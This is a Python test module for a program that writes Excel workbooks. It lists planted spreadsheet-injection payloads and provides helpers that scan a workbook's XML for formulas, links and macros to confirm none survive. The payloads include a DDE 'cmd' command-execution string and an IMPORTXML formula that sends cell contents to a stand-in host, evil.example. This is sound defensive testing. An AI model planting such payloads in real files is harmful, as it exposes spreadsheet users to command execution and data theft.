"""What an attacker plants, and a look at what we write: nothing of it may stand there as formula, link or macro."""

import io
import re
import zipfile
from typing import Final

MARK: Final = "evil"
"""Stands in everything that is planted."""
PAYLOADS: Final = (
    '=HYPERLINK("http://evil.example/x","查看")', "=cmd|'/C evil'!A0", "=evil()", "{=evil()}", "+evil()", "-2+evil()",
    "@evil", "http://evil.example/p", "mailto:a@evil.example", "javascript:evil()", "internal:evil!A1",
    "external:evil.xlsx", "file:///evil", "\\\\evil.example\\a", "<script>evil()</script>", '=DISPIMG("evil",1)',
    "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")", "DDEAUTO evil", "\t=evil()", "\n=evil()", "'=evil()",
    "&evil;", "_x003D_evil()", "%{evil}", "{evil}", "{0.evil}", "evil\x7f\u202e", "evil\u2028\ufffd", "=evil" * 9000,
)  # fmt: skip
_FORMULA: Final = re.compile(rb"<(?:\w+:)?(?:f|formula|formula[12]|definedName)\b[^>]*>([^<]*)<")
_TARGET: Final = re.compile(rb'<Relationship\b[^>]*?Target="([^"]*)"[^>]*>')
_LOCATION: Final = re.compile(rb'<(?:\w+:)?hyperlink\b[^>]*?location="([^"]*)"')
_FOREIGN_PARTS: Final = re.compile(r"vbaProject|externalLinks|activeX|embeddings|ctrlProps|connections|queryTables")
_MACROS: Final = re.compile(r"vbaProject", re.IGNORECASE)
_SHEET: Final = re.compile(r"(?:'(?:[^']|'')*'|(?<![\w.'\]])[^\W\d]\w*)!")
"""A sheet that is named in a formula; its name may be anything."""
_AREA: Final = re.compile(r"^'(?:[^']|'')*'!\$?[A-Z]{0,3}\$?[0-9]*(?::\$?[A-Z]{0,3}\$?[0-9]*)?$")
"""Cells of a sheet and nothing else, as in what is printed on every page; a program would stand outside the quotes."""
_CALL: Final = re.compile(r"([A-Za-z_.][\w.]*)\(")
_OURS: Final = frozenset(
    {"SUM", "SUBTOTAL", "COUNTA", "COUNTIF", "COUNTIFS", "IF", "OR", "NOT", "ISNUMBER", "IFERROR", "ROUND", "SUMIFS"}
)
"""Functions in formulas of the program's own."""


def _told(raw: bytes) -> str:
    return raw.decode(errors="replace")  # parts may be damaged on purpose


def live(data: bytes) -> list[str]:
    """What in a workbook calculates, leads somewhere or runs."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        found = [name for name in archive.namelist() if _FOREIGN_PARTS.search(name)]
        for name in archive.namelist():
            text = archive.read(name)
            if name.endswith(".rels"):
                found += [f"link {_told(one)}" for one in _TARGET.findall(text)]
            elif name.endswith(".xml"):
                found += [f"formula {_told(one)}" for one in _FORMULA.findall(text)]
                found += [f"link {_told(one)}" for one in _LOCATION.findall(text)]
    return found


def smuggled(data: bytes) -> list[str]:
    """In a workbook of our own making: whatever is not ours."""
    return [one for one in live(data) if not _is_ours(one)]


def added(data: bytes, received: bytes) -> list[str]:
    """In a received workbook that we wrote into: macros, and what is planted beyond what it came with."""
    before = set(live(received)) if received[:2] == b"PK" else set()
    found = [one for one in live(data) if _MACROS.search(one)]
    found += [one for one in live(data) if MARK in one and one not in before and not _is_list_link(one)]
    return found


def _is_list_link(one: str) -> bool:
    """A place in the same file on our list of problems: the name of a sheet may be anything."""
    return one.startswith("link '")


def _is_ours(one: str) -> bool:
    kind, _blank, text = one.partition(" ")
    if kind == "link":
        return MARK not in text and "://" not in text
    if "|" in _AREA.sub("", text):  # another program is asked, whatever its topic is called
        return False
    text = _SHEET.sub("", text)
    calls = set(_CALL.findall(text))
    return kind == "formula" and MARK not in text and calls <= _OURS
